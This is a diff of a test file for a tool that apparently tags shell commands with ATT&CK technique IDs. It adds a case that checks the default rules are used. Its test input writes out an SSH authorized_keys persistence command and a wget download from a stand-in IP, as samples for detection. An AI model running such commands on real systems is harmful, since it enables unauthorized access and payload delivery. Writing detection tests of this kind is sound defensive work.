@@ -39,6 +39,11 @@ describe('ttp tag', () => {
     expect(code).toBe(1);
   });
 
+  it('takes the rules that ship where the working folder has none', async () => {
+    const { code, stdout } = await ttp(['tag'], { stdin: ROW, cwd: aFolder() });
+    expect({ code, stdout }).toEqual({ code: 0, stdout: '{"id":"row 1","command_index":1,"technique_ids":["T1105"]}\n' });
+  });
+
   it('takes a directory of rules in the reference format, or one file', async () => {
     const rules = aFolder({ 'R0900.yaml': AUTHORIZED_KEYS, 'notes.txt': 'no rule' });
     const stdin = '{"id":"r","commands":["echo key >> ~/.ssh/authorized_keys","wget http://192.0.2.1/x"]}';
